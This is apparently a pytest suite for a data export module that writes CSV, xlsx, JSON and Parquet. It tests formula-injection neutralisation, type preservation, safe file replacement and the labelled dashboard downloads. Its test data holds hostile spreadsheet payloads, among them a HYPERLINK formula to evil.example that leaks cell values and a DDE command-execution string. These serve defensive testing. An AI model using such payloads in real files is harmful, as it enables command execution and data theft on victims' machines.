"""The one table writer (zhizao.export): formula injection neutralised in CSV and xlsx from the API and the
command line; JSON and Parquet unchanged; every table of every dashboard page as .xlsx and CSV with the page's
headers and labels, the API's format=xlsx, the command line's ``programme|project list --format xlsx``."""

from __future__ import annotations

import csv
import io
import json
import os
import re

import openpyxl
import pandas as pd
import pytest
from typer.testing import CliRunner

import zhizao
from test_server_support import PROJECT_A, SITE_A, A, bearer, clone, login, make_client
from zhizao.cli.main import app
from zhizao.export import (
    FORMULA_STARTS,
    csv_bytes,
    display_frame,
    is_formula_like,
    neutralise,
    to_bytes,
    write_table,
    write_tables,
    xlsx_bytes,
)

#: texts that spreadsheet programs would run as formulas (ids and reasons of a hostile tenant)
EVIL = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1",
        "\uff1d1+1", "=cmd|' /C calc'!A0"]


def test_neutralise_prefixes_formula_like_text_only():
    for v in EVIL:
        assert is_formula_like(v) and neutralise(v) == "'" + v
    for v in ["jam", "M-1", "1-2", "", " =x", "'=x", 5, -5.0, None]:
        assert neutralise(v) == v
    assert set(FORMULA_STARTS) >= {"=", "+", "-", "@", "\t", "\r"}


def _frame():
    return pd.DataFrame({"equipment_id": EVIL + ["M1"], "seconds": [-5.0] * len(EVIL) + [60.0],
                         "at": pd.to_datetime(["2024-01-01T00:00:00Z"] * (len(EVIL) + 1))})


def test_csv_cells_come_back_as_text():
    rows = list(csv.reader(io.StringIO(to_bytes(_frame(), "csv").decode("utf-8"), newline="")))
    assert rows[0] == ["equipment_id", "seconds", "at"]
    assert [r[0] for r in rows[1:]] == ["'" + v for v in EVIL] + ["M1"]
    assert [r[1] for r in rows[1:]] == ["-5.0"] * len(EVIL) + ["60.0"]  # numbers stay numbers
    assert rows[1][2] == "2024-01-01T00:00:00+00:00"
    assert to_bytes(_frame(), "csv", bom=True).startswith("\ufeff".encode())


def _xlsx_cells(data: bytes):
    wb = openpyxl.load_workbook(io.BytesIO(data))
    return [[(c.value, c.data_type, c.quotePrefix) for c in row] for row in wb.active.iter_rows()]


def test_xlsx_cells_are_text_never_formulas_and_keep_their_value():
    cells = _xlsx_cells(to_bytes(_frame(), "xlsx"))
    # (XML reads a carriage return back as a line feed)
    assert [c[0][0] for c in cells[1:]] == [v.replace("\r", "\n") for v in EVIL] + ["M1"]
    assert all(row[0][1] == "s" for row in cells[1:])  # text cells: no formula ("f")
    assert [row[0][2] for row in cells[1:]] == [True] * len(EVIL) + [False]
    assert all(row[1][1] == "n" for row in cells[1:])
    assert not any(dt == "f" for row in cells for _, dt, _ in row)


def test_json_and_parquet_keep_values(tmp_path):
    assert [r["equipment_id"] for r in json.loads(to_bytes(_frame(), "json"))] == EVIL + ["M1"]
    write_table(_frame(), "parquet", tmp_path / "t.parquet")
    assert pd.read_parquet(tmp_path / "t.parquet")["equipment_id"].tolist() == EVIL + ["M1"]


@pytest.mark.parametrize("fmt", ["csv", "parquet", "json", "xlsx"])
def test_a_table_written_in_pieces_is_the_table(tmp_path, fmt):
    """``write_tables``: pieces of one table give the file of the whole, also where the first piece has no value
    of a text column (Parquet would type it null) and the pieces' texts are formula-like (neutralised alike)."""
    whole = pd.DataFrame({"equipment_id": EVIL + ["M1", "M2"], "reason": [None] * 4 + ["jam", "=x", None, None, "a,b", "c"],
                          "oee": [0.5, float("nan"), 1.25, 0.0, -0.1, 2.0, 0.3, 0.4, 0.9, 0.75]})
    pieces = [whole.iloc[:4], whole.iloc[4:4], whole.iloc[4:7], whole.iloc[7:]]
    write_table(whole, fmt, tmp_path / f"whole.{fmt}", bom=True)
    assert write_tables(iter(pieces), fmt, tmp_path / f"pieces.{fmt}", bom=True) == len(whole)
    if fmt == "parquet":
        pd.testing.assert_frame_equal(pd.read_parquet(tmp_path / "whole.parquet"),
                                      pd.read_parquet(tmp_path / "pieces.parquet"), check_exact=True)
    elif fmt == "xlsx":
        def cells(name):
            return [[c.value for c in row] for row in openpyxl.load_workbook(tmp_path / name).active.iter_rows()]
        assert cells("pieces.xlsx") == cells("whole.xlsx")
    else:
        assert (tmp_path / f"pieces.{fmt}").read_bytes() == (tmp_path / f"whole.{fmt}").read_bytes()


@pytest.mark.parametrize("fmt", ["csv", "parquet", "xlsx"])
def test_a_table_that_fails_half_way_leaves_the_file_as_it_was(tmp_path, fmt):
    """A table written piece by piece whose query fails after the first piece: the file it would replace keeps
    its content (no empty or cut file), and no temporary file is left."""
    dest = tmp_path / f"out.{fmt}"
    dest.write_bytes(b"earlier result")
    dest.chmod(0o640)

    def pieces():
        yield _frame()
        raise RuntimeError("the engine failed on the second partition")

    with pytest.raises(RuntimeError):
        write_tables(pieces(), fmt, dest)
    assert dest.read_bytes() == b"earlier result"
    assert [p.name for p in tmp_path.iterdir()] == [dest.name]
    write_tables(iter([_frame()]), fmt, dest)  # and a table that succeeds replaces it, with the file's mode
    assert dest.read_bytes() != b"earlier result" and dest.stat().st_mode & 0o777 == 0o640
    fresh = tmp_path / f"new.{fmt}"
    write_tables(iter([_frame()]), fmt, fresh)  # a new file: the mode open() would give, not mkstemp's 0600
    umask = os.umask(0)
    os.umask(umask)
    assert fresh.stat().st_mode & 0o777 == 0o666 & ~umask


def test_unknown_format_is_an_input_error():
    from zhizao.errors import InputError

    with pytest.raises(InputError):
        to_bytes(_frame(), "ods")


@pytest.fixture
def evil_store(tmp_path):
    ids = ["=1+1", "+SUM(1)", "-1+2", "@A1"]
    eq = pd.DataFrame({"equipment_id": ids, "site": ["=S"] * 4, "enterprise": ["E1"] * 4})
    st = pd.DataFrame({"equipment_id": ids, "start": ["2024-01-01T00:00:00Z"] * 4,
                       "end": ["2024-01-01T01:00:00Z"] * 4, "state": ["unplanned_downtime"] * 4,
                       "reason": ["=HYPERLINK(\"http://evil/\")"] * 4})
    eq.to_csv(tmp_path / "eq.csv", index=False)
    st.to_csv(tmp_path / "st.csv", index=False)
    db = tmp_path / "evil.duckdb"
    with zhizao.connect(db) as ws:
        ws.ingest("equipment", tmp_path / "eq.csv")
        ws.ingest("states", tmp_path / "st.csv")
        ws.ingest("states", tmp_path / "st.csv", source="=bad.csv")  # already loaded: nothing
    return db, ids


def test_cli_csv_and_xlsx_neutralise_ids(evil_store, tmp_path):
    db, ids = evil_store
    r = CliRunner().invoke(app, ["kpi", "--db", str(db), "--format", "csv", "--period", "all"])
    assert r.exit_code == 0, r.output
    rows = list(csv.DictReader(io.StringIO(r.output)))
    assert sorted(x["equipment_id"] for x in rows) == sorted("'" + i for i in ids)
    out = tmp_path / "k.xlsx"
    r = CliRunner().invoke(app, ["kpi", "--db", str(db), "--format", "xlsx", "--period", "all", "-o", str(out)])
    assert r.exit_code == 0, r.output
    cells = _xlsx_cells(out.read_bytes())
    assert sorted(row[0][0] for row in cells[1:]) == sorted(ids)
    assert not any(dt == "f" for row in cells for _, dt, _ in row)


def test_api_csv_and_xlsx_neutralise_ids_and_reasons(evil_store):
    pytest.importorskip("fastapi")
    from test_server_support import bearer, make_client
    from zhizao.server import accounts

    db, ids = evil_store
    with zhizao.connect(db) as ws:
        accounts.ensure_tables(ws.con)
        accounts.add_user(ws.con, "root", "correct horse battery", "admin")
    client = make_client(db)
    try:
        token = client.post("/api/v1/auth/login", json={"username": "root", "password": "correct horse battery"}
                            ).json()["token"]
        r = client.get("/api/v1/stop-reasons?level=equipment&format=csv", headers=bearer(token))
        assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
        rows = list(csv.DictReader(io.StringIO(r.text)))
        assert sorted(x["equipment_id"] for x in rows) == sorted("'" + i for i in ids)
        assert {x["reason"] for x in rows} == {"'=HYPERLINK(\"http://evil/\")"}
        r = client.get("/api/v1/stop-reasons?level=equipment&format=xlsx", headers=bearer(token))
        assert r.status_code == 200 and "spreadsheetml" in r.headers["content-type"]
        cells = _xlsx_cells(r.content)
        assert {row[2][0] for row in cells[1:]} == {"=HYPERLINK(\"http://evil/\")"}
        assert not any(dt == "f" for row in cells for _, dt, _ in row)
        r = client.get("/api/v1/quarantine?format=csv", headers=bearer(token))
        assert r.status_code == 200
    finally:
        client.app.state.server.close()


# -- the dashboard's, the API's and the command line's workbooks


def test_formula_cells_are_neutralised_and_numbers_stay_numbers():
    df = pd.DataFrame({"名称": ["=HYPERLINK(\"x\")", "+1", "-2", "@SUM(A1)", "\tx", "正常", "-"],
                       "值": [1, -2.5, 3, 4, 5, 6, 7]})
    wb = openpyxl.load_workbook(io.BytesIO(xlsx_bytes({"表": df})))
    ws = wb["表"]
    assert [c.value for c in ws[1]] == ["名称", "值"]
    # text cells keep their exact value; formula-like ones carry Excel's quote prefix (shown and kept as text)
    names = [(ws.cell(r, 1).value, ws.cell(r, 1).quotePrefix) for r in range(2, 9)]
    assert names == [("=HYPERLINK(\"x\")", True), ("+1", True), ("-2", True), ("@SUM(A1)", True), ("\tx", True),
                     ("正常", False), ("-", True)]
    assert all(ws.cell(r, 1).data_type == "s" for r in range(2, 9))
    assert [ws.cell(r, 2).value for r in range(2, 9)] == [1, -2.5, 3, 4, 5, 6, 7]
    text = csv_bytes(df).decode("utf-8-sig")
    assert "'=HYPERLINK" in text and "\n'+1," in text and ",-2.5" in text
    assert csv_bytes(df).startswith(b"\xef\xbb\xbf") and not csv_bytes(df, bom=False).startswith(b"\xef")
    assert neutralise(-3) == -3 and neutralise(None) is None


def test_display_tables_become_typed_cells():
    t = {"head": [{"text": "指标"}, {"text": "平均值"}, {"text": "项目数"}, {"text": "区间"}, {"text": ""}],
         "rows": [[{"text": "生产效率提升"}, {"text": "47.9%"}, {"text": "1,246"}, {"text": "40.7%至55.1%"},
                   {"bar": 40}],
                  [{"text": "运营成本降低"}, {"text": "—"}, {"text": "12"}, {"text": "—"}, {"bar": 0}]]}
    df, pct = display_frame(t)
    assert list(df.columns) == ["指标", "平均值", "项目数", "区间"] and pct == ["平均值"]
    assert df.iloc[0].tolist() == ["生产效率提升", pytest.approx(0.479), 1246, "40.7%至55.1%"]
    assert pd.isna(df.iloc[1]["平均值"]) and df.iloc[1]["项目数"] == 12
    # a shown percentage is written as the fraction it says, not a float division's neighbour
    df, _pct = display_frame({"head": [{"text": "占比"}], "rows": [[{"text": "2.7%"}], [{"text": "79.1%"}]]})
    assert df["占比"].tolist() == [0.027, 0.791] and "0.027\n" in df.to_csv(index=False)


@pytest.fixture(scope="module")
def client(tmp_path_factory):
    c = make_client(clone(tmp_path_factory.mktemp("export") / "s.duckdb"))
    yield c
    c.app.state.server.close()


PAGES = ["/plant", f"/plant/site/{SITE_A}", "/projects", f"/projects/{PROJECT_A}", "/programme",
         f"/recognition?enterprise={A}&designation=digital_workshop", "/data"]


def test_every_dashboard_table_downloads_as_xlsx_and_csv(client):
    h = bearer(login(client, "root"))
    up = client.post("/api/v1/ingest/states", headers=h, files={"file": ("bad.csv", io.BytesIO(
        b"equipment_id,start,end,state\nENT001-WC1-M1,not a time,,=cmd|' /C calc'!A0\n"), "text/csv")})
    assert up.status_code in (200, 201), up.text
    n_tables = 0
    for url in PAGES:
        page = client.get(url, headers=h).text
        heads = re.findall(r"<table[^>]*>\s*<thead><tr>(.*?)</tr></thead>", page, flags=re.S)
        links = re.findall(r'<a href="([^"]+)" class="dl-xlsx">', page)
        csvs = re.findall(r'<a href="([^"]+)" class="dl-csv">', page)
        assert len(links) == len(csvs) and len(links) >= 1, url
        assert len(links) == len(heads), (url, len(links), len(heads))  # every table has its download
        for link, csv_link, head in zip(links, csvs, heads):
            link, csv_link = link.replace("&amp;", "&"), csv_link.replace("&amp;", "&")
            r = client.get(link, headers=h)
            assert r.status_code == 200, (url, link, r.text[:200])
            assert r.headers["content-type"].startswith("application/vnd.openxmlformats")
            ws = openpyxl.load_workbook(io.BytesIO(r.content)).active
            shown = [re.sub(r"<[^>]+>", "", x).strip() for x in re.findall(r"<th[^>]*>(.*?)</th>", head)]
            got = [c.value for c in ws[1]]
            simulated = got and got[0] == "数据来源"
            assert [g for g in got[1 if simulated else 0:]] == [s for s in shown if s], (url, got, shown)
            rc = client.get(csv_link, headers=h)
            assert rc.status_code == 200 and rc.content.startswith(b"\xef\xbb\xbf")
            n_tables += 1
    assert n_tables >= 15
    # the projects table: Chinese headers, labels and local dates instead of codes and UTC strings
    r = client.get("/projects?export=list.table&format=xlsx", headers=h)
    ws = openpyxl.load_workbook(io.BytesIO(r.content)).active
    rows = [[c.value for c in row] for row in ws.iter_rows()]
    assert "总投资（万元）" in rows[0] and "建成投产日期" in rows[0] and "实施范围" in rows[0]
    flat = " ".join(str(v) for row in rows for v in row)
    assert "completed" not in flat and "digital_equipment" not in flat and "UTC" not in flat
    assert re.search(r"\d{4}年\d{1,2}月\d{1,2}日", flat)
    r = client.get("/projects?export=nothing&format=xlsx", headers=h)
    assert r.status_code == 404
    r = client.get("/projects?export=list.table&format=docx", headers=h)
    assert r.status_code == 400


def test_programme_workbook_and_api_xlsx(client):
    h = bearer(login(client, "ana"))
    r = client.get("/programme/export.xlsx", headers=h)
    assert r.status_code == 200
    wb = openpyxl.load_workbook(io.BytesIO(r.content))
    assert {"平均改善幅度", "按区县", "按所属行业"} <= set(wb.sheetnames) or len(wb.sheetnames) >= 6, wb.sheetnames
    r = client.get("/api/v1/projects?format=xlsx", headers=h)
    assert r.status_code == 200 and r.headers["content-type"].startswith("application/vnd.openxmlformats")
    ws = openpyxl.load_workbook(io.BytesIO(r.content)).active
    assert [c.value for c in ws[1]][:2] == ["project_id", "enterprise_id"]
    r = client.get("/api/v1/projects?format=pdf", headers=h)
    assert r.status_code == 422


def test_cli_programme_xlsx(tmp_path):
    from typer.testing import CliRunner

    from zhizao.cli.main import app

    db = clone(tmp_path / "s.duckdb")
    out = tmp_path / "programme.xlsx"
    r = CliRunner().invoke(app, ["programme", "--db", str(db), "--format", "xlsx", "-o", str(out), "--n-boot", "50"])
    assert r.exit_code == 0, r.output
    wb = openpyxl.load_workbook(out)
    assert {"汇总", "按区县分布", "按所属行业分布", "平均改善幅度", "项目", "认定情况"} <= set(wb.sheetnames), wb.sheetnames
    ws = wb["平均改善幅度"]
    head = [c.value for c in ws[1]]
    assert head[:4] == ["指标", "口径", "项目数", "平均值"]
    assert ws.cell(2, 4).number_format == "0.0%" and isinstance(ws.cell(2, 3).value, int)
    assert ws.cell(2, 1).value == "生产效率提升"
    prj = wb["项目"]
    assert "项目名称" in [c.value for c in prj[1]] and prj.cell(2, 1).value.startswith("P")
    r = CliRunner().invoke(app, ["programme", "--db", str(db), "--format", "xlsx"])
    assert r.exit_code == 2


def test_nested_values_become_text_cells():
    df = pd.DataFrame({"a": [{"x": 1, "f": "=1"}, None], "b": [["P1", "P2"], [{"k": 1}]],
                       "t": [pd.Timestamp("2024-01-01T08:00:00+08:00"), pd.NaT]})
    ws = openpyxl.load_workbook(io.BytesIO(xlsx_bytes({"s": df}))).active
    assert ws.cell(2, 1).value == '{"x": 1, "f": "=1"}' and ws.cell(3, 1).value is None
    assert ws.cell(2, 2).value == "P1, P2" and ws.cell(3, 2).value == '[{"k": 1}]'
    assert str(ws.cell(2, 3).value).startswith("2024-01-01 08:00")


def test_cli_project_list_xlsx_is_labelled(tmp_path):
    from typer.testing import CliRunner

    from zhizao.cli.main import app

    db = clone(tmp_path / "s.duckdb")
    out = tmp_path / "projects.xlsx"
    r = CliRunner().invoke(app, ["project", "list", "--db", str(db), "--format", "xlsx", "-o", str(out)])
    assert r.exit_code == 0, r.output
    ws = openpyxl.load_workbook(out).active
    rows = [[c.value for c in row] for row in ws.iter_rows()]
    assert rows[0][:3] == ["项目编号", "项目名称", "企业名称"] and "总投资（万元）" in rows[0]
    flat = " ".join(str(v) for row in rows for v in row)
    assert "completed" not in flat and "UTC" not in flat and "+00:00" not in flat and "已建成" in flat
    assert re.search(r"\d{4}年\d{1,2}月\d{1,2}日", flat)
